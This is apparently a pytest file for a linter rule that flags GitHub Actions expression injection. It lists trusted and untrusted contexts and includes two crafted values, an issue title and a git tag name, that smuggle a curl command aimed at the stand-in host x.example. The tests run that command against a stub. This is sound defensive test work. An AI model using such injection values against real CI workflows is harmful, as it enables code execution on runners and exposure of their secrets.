"""QC407 expression-injection. Real bash runs the script as the runner writes it, with an
issue title an attacker chose: the title's command runs (a stub records it)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from _support import Finder
from harness.stubs import StubDir

CODE = "QC407"
found = Finder(CODE, host="github-actions")

WORKFLOW = ("on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: |\n          echo \"Title: ${{ github.event.issue.title }}\"\n")


def test_the_title_runs_as_code(tmp_path: Path) -> None:
    stubs = StubDir(tmp_path, names=["curl"])
    title = '"; curl -s https://x.example/p; echo "'
    # What the runner writes: the expression replaced by its value, then `bash -e {0}`.
    script = tmp_path / "step.sh"
    script.write_text(f'echo "Title: {title}"\n')
    subprocess.run(["bash", "-e", str(script)], env=stubs.env(), capture_output=True,
                   timeout=30, check=True)
    assert stubs.records() == [["curl", "-s", "https://x.example/p"]]
    [(line, col, d)] = found(WORKFLOW)
    assert (line, col) == (7, 24) and d.severity == "error"
    assert "env:" in d.message.explanation


@pytest.mark.parametrize("expression", [
    "github.event.pull_request.head.ref", "github.head_ref", "github.event.comment.body",
    "github.event.head_commit.message", "github.event.pull_request.title",
    "github.event.commits[0].author.name", "github.event.workflow_run.head_branch",
    "github.event.pull_request.head.repo.default_branch", "github.event.review.body",
])
def test_other_untrusted_contexts(expression: str) -> None:
    [(_, _, d)] = found(WORKFLOW.replace("github.event.issue.title", expression))
    assert d.severity == "error"


@pytest.mark.parametrize("expression", ["github.run_id", "matrix.python", "env.X",
                                        "secrets.TOKEN", "steps.x.outputs.y",
                                        # the base branch is the repository's own
                                        "github.event.pull_request.base.ref",
                                        "github.event.repository.name",
                                        "github.event.pull_request.number"])
def test_trusted_contexts(expression: str) -> None:
    assert found(WORKFLOW.replace("github.event.issue.title", expression)) == []


DISPATCH = ("on:\n  workflow_dispatch:\n    inputs:\n      version: {{}}\n"
            "      env:\n        type: choice\n        options: [dev, prod]\n"
            "  workflow_call:\n    inputs:\n      tag:\n        type: string\n")


def test_free_text_inputs_of_a_manual_run_are_information() -> None:
    # (a string input, the default type: whoever runs the workflow types it)
    workflow = WORKFLOW.replace("on: issues\n", DISPATCH)
    [(_, _, d)] = found(workflow.replace("github.event.issue.title", "inputs.version"))
    assert d.severity == "info"
    [(_, _, d)] = found(workflow.replace("github.event.issue.title", "github.event.inputs.version"))
    assert d.severity == "info"


@pytest.mark.parametrize("expression", [
    "inputs.env",  # a choice: one of the options written in the file
    "inputs.tag",  # a workflow_call input: what the repository's own callers pass
    "inputs.other",  # no such dispatch input (a composite action's, say)
])
def test_inputs_that_are_no_free_text_are_not_reported(expression: str) -> None:
    workflow = WORKFLOW.replace("on: issues\n", DISPATCH)
    assert found(workflow.replace("github.event.issue.title", expression)) == []


RELEASE = ("on:\n  release:\n    types: [published]\njobs:\n  publish:\n"
           "    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
           "          TAG=\"${{ github.event.release.tag_name }}\"\n")


def test_a_release_tag_is_a_writers_text_information(tmp_path: Path) -> None:
    # A tag name may hold quotes, `;` and `$`: real git accepts this one, and real bash runs
    # its command once the runner has pasted it in. Whoever can push it can also point it at
    # a commit whose workflow runs anything: the value gives them nothing more.
    tag = 'v1";curl${IFS}-s${IFS}x.example/p;#'
    git = shutil.which("git")
    if git is None:
        pytest.skip("no git")
    subprocess.run([git, "check-ref-format", f"refs/tags/{tag}"], check=True, timeout=30)
    stubs = StubDir(tmp_path, names=["curl"])
    script = tmp_path / "step.sh"
    script.write_text(f'TAG="{tag}"\n')
    subprocess.run(["bash", "-e", str(script)], env=stubs.env(), capture_output=True,
                   timeout=30, check=True)
    assert stubs.records() == [["curl", "-s", "x.example/p"]]
    [(line, col, d)] = found(RELEASE)
    assert (line, col, d.severity) == (9, 16, "info")
    assert "push tags" in d.message.explanation or "push tags" in d.message.summary


@pytest.mark.parametrize("expression", ["github.event.release.name",
                                        "github.event.release.body"])
def test_a_releases_title_and_notes_too(expression: str) -> None:
    [(_, _, d)] = found(RELEASE.replace("github.event.release.tag_name", expression))
    assert d.severity == "info"
